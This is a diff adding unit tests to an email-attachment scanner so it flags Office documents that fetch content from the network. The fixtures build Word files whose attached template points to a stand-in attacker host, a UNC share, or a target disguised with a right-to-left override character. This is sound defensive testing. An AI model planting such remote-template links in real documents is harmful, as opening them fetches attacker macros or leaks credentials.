@@ -241,6 +241,64 @@ class AttachmentContentAnalyzerTest {
     }
 
     @Test
+    void oleObjectsLinkedToAUrlInOletoolsDocumentsAreRemoteContent() throws Exception {
+        String target = "https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/";
+        assertThat(analyze(file("sample_with_external_link_to_doc.docx", sample("oletools/sample_with_external_link_to_doc.docx")),
+                file("sample_with_external_link_to_doc.xlsx", sample("oletools/sample_with_external_link_to_doc.xlsx")),
+                file("sample_with_external_link_to_doc.pptx", sample("oletools/sample_with_external_link_to_doc.pptx"))))
+                .containsExactly(
+                        Finding.of("OFFICE_REMOTE_CONTENT", "sample_with_external_link_to_doc.docx: oleObject "
+                                + target + "msodde/harmless-clean.doc"),
+                        Finding.of("OFFICE_REMOTE_CONTENT", "sample_with_external_link_to_doc.xlsx: oleObject "
+                                + target + "oleobj/embedded-simple-2007.doc"),
+                        Finding.of("OFFICE_REMOTE_CONTENT", "sample_with_external_link_to_doc.pptx: oleObject "
+                                + target + "oleobj/embedded-simple-2007.doc"));
+    }
+
+    /** A Word document as Word writes one, with {@code word/_rels/settings.xml.rels} holding {@code relationships}. */
+    private static byte[] docx(String relationships) throws IOException {
+        return zip("[Content_Types].xml", ascii("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"),
+                "_rels/.rels", ascii("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                        + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+                        + "relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>"),
+                "word/document.xml", "<w:document>見積書の本文</w:document>".getBytes(StandardCharsets.UTF_8),
+                "word/_rels/settings.xml.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
+                        + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                        + relationships + "</Relationships>").getBytes(StandardCharsets.UTF_8),
+                "word/settings.xml", ascii("<w:settings/>"));
+    }
+
+    private static String template(String target) {
+        return "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+                + "attachedTemplate\" Target=\"" + target + "\" TargetMode=\"External\"/>";
+    }
+
+    @Test
+    void aTemplateFetchedFromTheNetworkIsRemoteContentInsideAnArchiveTooWithItsTargetShownSafely() throws Exception {
+        byte[] injected = docx(template("https://evil.example/templates/t.dotm"));
+        byte[] unc = docx(template("\\\\198.51.100.7\\share\\t.dotm"));
+        byte[] hidden = docx(template("https://evil.example/\u202Emcod.txt" + "/a".repeat(150)));
+        assertThat(analyze(file("見積書.docx", injected), file("order.zip", zip("order/注文書.docx", unc)),
+                file("long.docx", hidden)))
+                .containsExactly(
+                        Finding.of("OFFICE_REMOTE_CONTENT", "見積書.docx: attachedTemplate https://evil.example/templates/t.dotm"),
+                        Finding.of("OFFICE_REMOTE_CONTENT", "order.zip!/order/注文書.docx: attachedTemplate "
+                                + "\\\\198.51.100.7\\share\\t.dotm"),
+                        Finding.of("OFFICE_REMOTE_CONTENT", "long.docx: attachedTemplate https://evil.example/<U+202E>mcod.txt"
+                                + ("/a".repeat(150)).substring(0, 200 - "https://evil.example/\u202Emcod.txt".length()) + "…"));
+    }
+
+    @Test
+    void aTemplateOnTheAuthorsDiskHyperlinksAndEmbeddedObjectsAreNoRemoteContent() throws Exception {
+        byte[] normal = docx(template("file:///C:\\Users\\taro\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"));
+        byte[] links = docx("<Relationship Id=\"rId2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
+                + "relationships/hyperlink\" Target=\"https://www.example.co.jp/\" TargetMode=\"External\"/>");
+        assertThat(analyze(file("見積書.docx", normal), file("links.docx", links),
+                file("embedded-simple-2007.docx", sample("oletools/embedded-simple-2007.docx")))).isEmpty();
+        assertThat(fixtureMessage("spamassassin-target_uri.eml")).isEmpty();
+    }
+
+    @Test
     void spamAssassinsMacroWorkbookIsAnOfficeMacro() throws Exception {
         assertThat(fixtureMessage("spamassassin-macro.eml")).containsExactly(Finding.of("OFFICE_MACRO", "macro.xlsm"));
     }
